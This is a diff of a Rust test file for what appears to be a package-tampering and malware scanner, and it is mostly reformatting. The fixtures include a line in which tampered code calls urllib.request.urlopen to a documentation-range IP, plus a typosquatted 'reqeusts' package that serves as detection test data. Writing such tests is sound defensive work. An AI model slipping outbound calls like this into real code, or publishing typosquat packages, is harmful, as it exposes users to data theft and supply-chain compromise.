@@ -221,9 +221,7 @@ async fn a_tampered_package_is_told_from_the_good_one_and_judged() {
     let line = "+    urllib.request.urlopen('https://198.51.100.9/c'";
     assert!(text.contains(line), "{text}");
     assert!(names(&examination).contains(&"difference-function-code.zip-0001-sealed"));
-    let json = bench
-        .text_of(&examination, "changes-sealed", ".json")
-        .await;
+    let json = bench.text_of(&examination, "changes-sealed", ".json").await;
     let json: Value = serde_json::from_str(&json).unwrap();
     assert_eq!(json["recorded_at"], "2026-11-20T00:00:00Z");
     // What is different does not depend on which pass asks.
@@ -505,7 +503,10 @@ async fn rules_and_advisories_of_the_owner_are_looked_with_and_broken_ones_left_
     );
     let package = zip(&[
         ("app.py", BAD),
-        ("reqeusts-1.0.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0.0\n"),
+        (
+            "reqeusts-1.0.0.dist-info/METADATA",
+            b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0.0\n",
+        ),
     ]);
     let case = Draft::open(&bench.vault)
         .package(
@@ -518,9 +519,19 @@ async fn rules_and_advisories_of_the_owner_are_looked_with_and_broken_ones_left_
         .await;
     let examination = bench.take(&case, "sealed").await;
     assert_eq!(examination.outcome, Outcome::Acquired);
-    let told: Vec<_> = examination.findings.iter().map(|it| &it.statement).collect();
+    let told: Vec<_> = examination
+        .findings
+        .iter()
+        .map(|it| &it.statement)
+        .collect();
     let tells = |what: &str| told.iter().any(|told| told.contains(what));
-    for what in ["owners", "MAL-2026-1", "rules/b.yar", "rules/c.yar", "osv/bad.json"] {
+    for what in [
+        "owners",
+        "MAL-2026-1",
+        "rules/b.yar",
+        "rules/c.yar",
+        "osv/bad.json",
+    ] {
         assert!(tells(what), "{what}: {told:#?}");
     }
     assert!(!tells("readme"), "{told:#?}");
